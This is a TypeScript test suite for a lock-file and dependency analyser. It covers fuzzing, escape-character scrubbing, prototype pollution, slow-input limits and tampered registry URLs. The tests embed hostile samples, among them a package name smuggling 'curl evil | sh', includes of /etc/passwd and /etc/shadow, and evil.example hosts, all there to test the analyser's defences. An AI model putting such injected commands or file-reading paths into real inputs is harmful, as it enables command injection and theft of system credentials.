import { readdirSync, readFileSync } from "node:fs";
import { join } from "node:path";
import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { fileOf, lookAt } from "../testing/look.ts";
import { createDependencies } from "./analyser.ts";
import { seedIndex } from "./seed/index.ts";

const dependencies = createDependencies(seedIndex());
const look = (path: string, text: string | object) => lookAt(dependencies, [fileOf(path, typeof text === "string" ? text : JSON.stringify(text, null, 1))]);
const NAMES: Readonly<Record<string, string>> = {
  ...{ "package-lock.v1.json": "package-lock.json", "package-lock.v2.json": "package-lock.json", "package-lock.v3.json": "package-lock.json" },
  ...{ "pnpm-lock.v5.yaml": "pnpm-lock.yaml", "pnpm-lock.v6.yaml": "pnpm-lock.yaml", "pnpm-lock.v9.yaml": "pnpm-lock.yaml" },
  ...{ "yarn.v1.lock": "yarn.lock", "yarn.berry.lock": "yarn.lock", "uv-export.txt": "requirements.txt" },
};
const fixtures = readdirSync(join(import.meta.dirname, "fixtures")).map(
  (name) => [NAMES[name] ?? name, readFileSync(join(import.meta.dirname, "fixtures", name), "utf8")] as const,
);

describe("a lock file that is cut, mixed up or in conflict", () => {
  test.each(fixtures)("%s never ends the analyser, and what cannot be read is said", (path, text) => {
    fc.assert(
      fc.property(
        fc.nat(text.length),
        fc.nat(200),
        fc.constantFrom("", "{", "}", '"', "\n", "\u0000", "- ", ": ", "[[", "<<<<<<< HEAD\n", "\t", "&a *a", "\u{e0041}"),
        (at, length, put) => {
          const { gaps, matches } = look(path, text.slice(0, at) + put + text.slice(at + length));
          expect(JSON.stringify(matches.map(({ title, message }) => [title, message]))).not.toMatch(/\\u0000|\u{e0041}/u);
          for (const gap of gaps) expect(gap.reason).toMatch(/^[a-z_]+$/);
        },
      ),
      { numRuns: 60 },
    );
  });

  test.each(fixtures)("%s with both sides of a conflict is a gap that matters", (path, text) => {
    const lines = text.split("\n");
    const broken = [...lines.slice(0, 20), "<<<<<<< HEAD", ...lines.slice(20, 24), "=======", ...lines.slice(24, 28), ">>>>>>> other", ...lines.slice(28)].join(
      "\n",
    );
    expect(look(path, broken).gaps).toMatchObject([{ reason: "merge_conflict", matters: true }]);
  });
});

const lock = (packages: Record<string, unknown>) => ({ lockfileVersion: 3, packages });
const good = { resolved: "https://registry.example/x/-/x-1.0.0.tgz", integrity: `sha512-${"A".repeat(86)}==` };

describe("names that are weapons", () => {
  test("terminal escapes and bidirectional marks do not reach a message", () => {
    const evil = "a\u001b]0;owned\u0007\u202eb";
    const { matches } = look(
      "package-lock.json",
      lock({
        "": { dependencies: { [evil]: "1" } },
        [`node_modules/${evil}`]: { version: "1.0.0", dependencies: { lodash: "1" } },
        "node_modules/lodash": { version: "4.17.15" },
      }),
    );
    expect(matches.length).toBeGreaterThan(0);
    expect(JSON.stringify(matches)).not.toMatch(/\\u001b|\\u0007|\u202e/);
  });

  test("a command to copy never holds a name that a shell would obey", () => {
    const evil = "x; curl evil | sh #";
    const { matches } = look(
      "package-lock.json",
      lock({
        "": { dependencies: { [evil]: "1" } },
        [`node_modules/${evil}`]: { version: "1.0.0", dependencies: { lodash: "1" } },
        "node_modules/lodash": { version: "4.17.15" },
      }),
    );
    for (const { fix } of matches) expect(fix.text.slice(fix.text.indexOf(": "))).not.toContain("curl");
  });

  test("__proto__ is a name like any other", () => {
    const text =
      '{"lockfileVersion":3,"packages":{"":{"dependencies":{"__proto__":"1"}},"node_modules/__proto__":{"version":"1.0.0","dependencies":{"constructor":"1"}},"node_modules/constructor":{"version":"1.0.0","__proto__":{"polluted":1}}}}';
    expect(look("package-lock.json", text).gaps).toEqual([]);
    expect(look("pnpm-lock.yaml", "lockfileVersion: '9.0'\n\npackages:\n\n  __proto__@1.0.0:\n    resolution: {integrity: sha512-AAAA}\n").gaps).toEqual([]);
    expect(look("uv.lock", 'version = 1\n[[package]]\nname = "__proto__"\nversion = "1"\n').gaps).toEqual([]);
    expect(look("package.json", '{"dependencies":{"__proto__":"1.0.0","constructor":"^1"}}').matches).toEqual([]);
    expect(({} as { polluted?: unknown }).polluted).toBeUndefined();
  });

  test("a path that leads out of the artifact opens nothing, and is said to be missing", () => {
    const { gaps } = look("requirements.txt", "-r ../../../etc/passwd\n-c https://evil.example/c.txt\n-r /etc/shadow\nflask==3.1.0\n");
    expect(gaps.map(({ reason }) => reason)).toEqual(["missing_include", "missing_include", "missing_include"]);
  });
});

describe("a file made to be slow", () => {
  const big = 300_000;
  test.each([
    ["package-lock.json", `{"lockfileVersion":3,"packages":${"[".repeat(big)}${"]".repeat(big)}}`],
    ["package-lock.json", `{"lockfileVersion":1,"dependencies":${'{"a":{"version":"1.0.0","dependencies":'.repeat(20_000)}{}${"}}".repeat(20_000)}}`],
    [
      "package-lock.json",
      JSON.stringify(
        lock({
          [`node_modules/${"a/node_modules/".repeat(big / 15)}b`]: {
            version: "1.0.0",
            dependencies: Object.fromEntries(Array.from({ length: 20_000 }, (_, i) => [`d${i}`, "1"])),
          },
        }),
      ),
    ],
    ["package-lock.json", `{"a":"${"\\".repeat(big * 4)}"}`],
    ["pnpm-lock.yaml", `lockfileVersion: '9.0'\npackages:\n${" ".repeat(2)}a: ${"{".repeat(big)}`],
    ["pnpm-lock.yaml", `lockfileVersion: '9.0'\n${Array.from({ length: 3000 }, (_, i) => `${" ".repeat(i)}a:\n`).join("")}`],
    ["pnpm-lock.yaml", `a: &a [1,2]\nb: &b [*a,*a]\nc: [*b,*b]\n`],
    ["yarn.lock", `# yarn lockfile v1\n\n"${"a@1, ".repeat(big)}b@1":\n  version "1.0.0"\n`],
    ["bun.lock", `{"packages":{${",".repeat(big)}}}`],
    ["uv.lock", `a = ${"[".repeat(big)}`],
    ["poetry.lock", `${"[".repeat(big)}`],
    ["requirements.txt", `a${" ".repeat(big)}==${" ".repeat(big)}1`],
    ["requirements.txt", "\\\n".repeat(big)],
    ["requirements.txt", `a==1 ${"--hash=sha256:".repeat(big)}`],
    ["setup.py", `import setuptools\nsetup(install_requires=${"[".repeat(big)}`],
    ["setup.py", `import setuptools\nA = ${"A + ".repeat(big / 20)}A\nsetup(install_requires=A)`],
    ["setup.py", `import setuptools\n${"setup(".repeat(big / 20)}`],
    ["setup.py", `import setuptools\n${"a".repeat(big)}${" ".repeat(big)}`],
    ["a.py", `# /// script\n${"# ///\n".repeat(big / 6)}`],
    ["a.py", "# /// script\n".repeat(big / 6)],
    ["Pipfile", `[packages]\n${"a.".repeat(big / 20)}b = "*"`],
    ["bom.xml", "<a>".repeat(big)],
    ["bom.xml", `<bom xmlns="http://cyclonedx.org/schema/bom/1.6" ${'x="'.repeat(big)}`],
    ["bom.xml", `<bom ${"a= ".repeat(big)}>`],
    ["bom.xml", `<a>${"<!--".repeat(big)}`],
    ["app.spdx", `SPDXVersion: SPDX-2.3\n${"PackageName: a\n".repeat(big / 20)}${"Comment: <text>\n".repeat(big / 20)}`],
    [
      "package-lock.json",
      `{"lockfileVersion":2,"packages":{},"dependencies":${'{"a":{"version":"1.0.0","dependencies":'.repeat(5_000)}{}${"}}".repeat(5_000)}}`,
    ],
    ["setup.cfg", `[options]\ninstall_requires =\n${" ".repeat(big)}a[${"x".repeat(big)}\n`],
    ["x-1.0.dist-info/METADATA", `Name:${" ".repeat(big)}\n`.repeat(3)],
    ["package.json", `{"dependencies":{"a":"${"1 || ".repeat(20_000)}2","b":"${"^".repeat(big)}","lodash":"${"<".repeat(190)}"}}`],
    ["sbom.json", `{"bomFormat":"CycloneDX","specVersion":"1.6","components":[${'{"purl":"pkg:npm/a@1"},'.repeat(20_000)}{}],"dependencies":[]}`],
  ])("%s (%#) is answered within a second and a half", (path, text) => {
    const begun = performance.now();
    look(path, text);
    expect(performance.now() - begun).toBeLessThan(1500);
  });

  test("packages that need each other in a ring, and a path of 20,000", () => {
    const ring = Object.fromEntries(
      Array.from({ length: 20_000 }, (_, i) => [`node_modules/p${i}`, { version: "1.0.0", dependencies: { [`p${(i + 1) % 20_000}`]: "1", lodash: "1" } }]),
    );
    const { matches } = look("package-lock.json", lock({ "": { dependencies: { p7: "1" } }, ...ring, "node_modules/lodash": { version: "4.17.15" } }));
    expect(matches.find(({ package: about }) => about?.name === "lodash")?.package?.path).toEqual(["p7", "lodash"]);
  });
});

describe("lock files that somebody prepared", () => {
  const many = Object.fromEntries(
    Array.from({ length: 30 }, (_, i) => [
      `node_modules/p${i}`,
      { version: "1.0.0", resolved: `https://registry.example/p${i}/-/p${i}-1.0.0.tgz`, integrity: good.integrity },
    ]),
  );
  const rules = (packages: Record<string, unknown>, more: object = {}) =>
    look("package-lock.json", { ...lock(packages), ...more }).matches.map(({ rule, severity }) => `${rule.replace("dependencies/", "")} ${severity}`);
  const root = { "": { dependencies: { chalk: "^5.0.0" } } };

  test.each([
    ["another package", { version: "5.0.0", ...good, resolved: "https://registry.example/evil/-/evil-5.0.0.tgz" }, ["lock-names-another-package high"]],
    ["another version", { version: "5.0.0", ...good, resolved: "https://registry.example/chalk/-/chalk-4.0.0.tgz" }, ["lock-names-another-package high"]],
    ["another server", { version: "5.0.0", ...good, resolved: "https://evil.example/chalk/-/chalk-5.0.0.tgz" }, ["lock-strange-host medium"]],
    ["an open line", { version: "5.0.0", ...good, resolved: "http://registry.example/chalk/-/chalk-5.0.0.tgz" }, ["lock-plain-http low"]],
    ["no hash", { version: "5.0.0", resolved: "https://registry.example/chalk/-/chalk-5.0.0.tgz" }, ["lock-without-hashes low"]],
    [
      "an open line and no hash",
      { version: "5.0.0", resolved: "http://registry.example/chalk/-/chalk-5.0.0.tgz" },
      ["lock-plain-http medium", "lock-without-hashes low"],
    ],
  ])("fetched from %s: said", (_, entry, expected) => {
    expect(rules({ ...root, ...many, "node_modules/chalk": entry })).toEqual(expected);
  });

  test.each([
    ["as it should", { version: "5.0.0", ...good, resolved: "https://registry.example/chalk/-/chalk-5.0.0.tgz" }],
    ["by an alias", { name: "real", version: "5.0.0", ...good, resolved: "https://registry.example/real/-/real-5.0.0.tgz" }],
    ["below a prefix", { version: "5.0.0", ...good, resolved: "https://registry.example/api/npm/npm-all/chalk/-/chalk-5.0.0.tgz" }],
    ["from a store of blobs", { version: "5.0.0", ...good, resolved: "https://registry.example/download/chalk/5.0.0/0123456789abcdef" }],
    ["from this machine", { version: "5.0.0", ...good, resolved: "http://localhost:4873/chalk/-/chalk-5.0.0.tgz" }],
  ])("fetched %s: nothing", (_, entry) => {
    const found = rules({ ...root, ...many, "node_modules/chalk": entry });
    expect(found.filter((each) => !each.startsWith("lock-strange-host") || !JSON.stringify(entry).includes("localhost"))).toEqual([]);
  });

  test("a package that was asked for by its address, or a scope with a registry of its own: nothing", () => {
    const asked = { "": { dependencies: { xlsx: "https://cdn.example/xlsx-0.20.0.tgz", "@corp/a": "^1.0.0" } } };
    const entries = {
      "node_modules/xlsx": { version: "0.20.0", ...good, resolved: "https://cdn.example/xlsx-0.20.0.tgz" },
      "node_modules/@corp/a": { version: "1.0.0", ...good, resolved: "https://npm.corp.example/@corp/a/-/a-1.0.0.tgz" },
    };
    expect(rules({ ...asked, ...many, ...entries })).toEqual([]);
  });

  test("a key that stands twice, so that two tools read two things", () => {
    const text = '{"lockfileVersion":3,"packages":{"node_modules/lodash":{"version":"4.17.15"},"node_modules/lodash":{"version":"4.17.21"}}}';
    expect(look("package-lock.json", text).gaps).toMatchObject([{ reason: "duplicate_keys", matters: true }]);
  });

  test("a manifest that asks for what the lock file does not give", () => {
    const files = [
      fileOf("package.json", JSON.stringify({ dependencies: { chalk: "^5.0.0", gone: "^1.0.0", fine: "^1.0.0", linked: "workspace:*" } })),
      fileOf(
        "package-lock.json",
        JSON.stringify(
          lock({
            "": { dependencies: { chalk: "^4.0.0", fine: "^1.0.0" } },
            "node_modules/chalk": { version: "4.1.0" },
            "node_modules/fine": { version: "1.2.0" },
          }),
        ),
      ),
    ];
    const found = lookAt(dependencies, files).matches;
    expect(found).toMatchObject([{ rule: "dependencies/lock-mismatch", severity: "low", place: { path: "package.json" } }]);
    expect(found[0]?.message).toMatch(/chalk \^5\.0\.0 \(locked: 4\.1\.0\), gone \^1\.0\.0 \(not locked\)\./);
  });
});

test("a lock file of 50 MB is read, and one of 10,000 packages within a second", () => {
  const packages: Record<string, unknown> = { "": { dependencies: { p0: "^1.0.0" } } };
  for (let i = 0; i < 10_000; i++)
    packages[`node_modules/p${i}`] = {
      version: "1.2.3",
      resolved: `https://registry.example/p${i}/-/p${i}-1.2.3.tgz`,
      integrity: good.integrity,
      dependencies: { [`p${(i * 7 + 1) % 10_000}`]: "^1.0.0", [`p${(i * 3 + 2) % 10_000}`]: "^1.0.0" },
    };
  packages["node_modules/lodash"] = { version: "4.17.15" };
  const text = JSON.stringify(lock(packages), null, 2);
  const begun = process.cpuUsage();
  const { facts } = dependencies.file(fileOf("package-lock.json", text));
  const { matches } = dependencies.project?.({
    files: [],
    facts: <T>(name: string) => (name === "dependencies" ? new Map([["package-lock.json", facts]]) : new Map()) as ReadonlyMap<string, T>,
  }) ?? { matches: [] };
  const { user } = process.cpuUsage(begun);
  expect(matches.length).toBe(3);
  // On a machine of its own half of that; the bill of materials is a good part of it.
  expect(user / 1000).toBeLessThan(4000);
  const padded = JSON.stringify({ ...lock(packages), pad: "x".repeat(50 * 2 ** 20) });
  expect(dependencies.file(fileOf("package-lock.json", padded)).facts?.listings[0]?.packages.length).toBe(10_001);
}, 60_000);
